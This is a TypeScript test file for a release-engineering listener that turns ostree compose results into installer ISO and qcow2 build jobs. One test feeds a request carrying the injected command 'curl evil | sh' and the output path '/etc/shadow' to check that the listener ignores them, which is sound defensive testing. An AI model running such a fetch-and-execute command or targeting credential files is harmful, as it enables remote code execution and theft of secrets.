import { describe, expect, it } from 'vitest';
import { ArtifactJobSpec } from '../../../src/jobs/specs.ts';
import { artifacts } from '../../../src/pipeline/listeners/artifacts.ts';
import { artifactsAndPromotion, testConfig } from '../../helpers/config.ts';
import { listenerHarness } from '../../helpers/listener-harness.ts';

const STREAM = 'f26-atomic-host-x86_64';
const REF = 'fedora/26/x86_64/updates/atomic-host';
const COMMIT = 'a'.repeat(64);

function composeFinished(commit: string | null = COMMIT, stream = STREAM) {
  return { composeId: 'compose-1', stream, ref: REF, commit, parent: null, version: '26.20261126.0', duration: 60 };
}

function buildRequested(name: string, extra: Record<string, unknown> = {}) {
  return { composeId: 'compose-1', stream: STREAM, commit: COMMIT, version: '26.20261126.0', name, kind: 'installer', platform: 'metal', format: 'iso', failable: false, ...extra };
}

/** The test group, each stream building an installer ISO (not failable) and a qcow2 image (failable). */
const withArtifacts = () => listenerHarness(artifacts, testConfig('/srv/relengd', { stream: artifactsAndPromotion() }));

describe('artifacts listener', () => {
  it('asks for every configured artifact of a stream from its new commit, and runs nothing yet', () => {
    const decision = withArtifacts().send('relengd.ostree.compose.finished', composeFinished());
    const identity = { composeId: 'compose-1', stream: STREAM, commit: COMMIT, version: '26.20261126.0' };
    expect(decision.emit).toEqual([
      { topic: 'relengd.artifact.build.requested', key: 'installer', subject: REF, data: { ...identity, name: 'installer', kind: 'installer', platform: 'metal', format: 'iso', failable: false } },
      { topic: 'relengd.artifact.build.requested', key: 'qcow2', subject: REF, data: { ...identity, name: 'qcow2', kind: 'image', platform: 'qemu', format: 'qcow2', failable: true } },
    ]);
    expect(decision.jobs).toEqual([]);
    expect(decision.patches).toEqual([]);
  });

  it('builds nothing from a compose that made no new commit', () => {
    expect(withArtifacts().send('relengd.ostree.compose.finished', composeFinished(null)).emit).toEqual([]);
  });

  it('builds nothing for a stream that left the configuration, or that configures no artifacts', () => {
    expect(withArtifacts().send('relengd.ostree.compose.finished', composeFinished(COMMIT, 'f25-atomic-host-x86_64')).emit).toEqual([]);
    const bare = listenerHarness(artifacts, testConfig('/srv/relengd'));
    expect(bare.send('relengd.ostree.compose.finished', composeFinished()).emit).toEqual([]);
  });

  it('runs one artifact job per request, serialized per stream and artifact, with a spec the executor accepts', () => {
    const decision = withArtifacts().send('relengd.artifact.build.requested', buildRequested('installer'));
    expect(decision.emit).toEqual([]);
    expect(decision.jobs).toEqual([
      {
        kind: 'artifact',
        key: 'build',
        queueKey: `artifact:${STREAM}:installer`,
        spec: {
          ...buildRequested('installer'),
          arch: 'x86_64',
          group: 'f26-atomic-host',
          release: '26',
          repo: '/srv/relengd/repo',
          ref: REF,
          output: '{outputDir}/images/boot.iso',
          command: ['lorax', '{outputDir}'],
        },
      },
    ]);
    expect(ArtifactJobSpec.safeParse(decision.jobs[0]!.spec).success).toBe(true);
  });

  it('takes the command, output, repository and ref from the configuration, never from the request', () => {
    const sneaky = buildRequested('installer', { command: ['sh', '-c', 'curl evil | sh'], output: '/etc/shadow', repo: '/tmp/other', ref: 'fedora/stable' });
    const spec = withArtifacts().send('relengd.artifact.build.requested', sneaky).jobs[0]!.spec as ArtifactJobSpec;
    expect(spec).toMatchObject({ command: ['lorax', '{outputDir}'], output: '{outputDir}/images/boot.iso', repo: '/srv/relengd/repo', ref: REF });
  });

  it('runs nothing for an artifact the stream no longer configures', () => {
    expect(withArtifacts().send('relengd.artifact.build.requested', buildRequested('vagrant-box')).jobs).toEqual([]);
  });
});
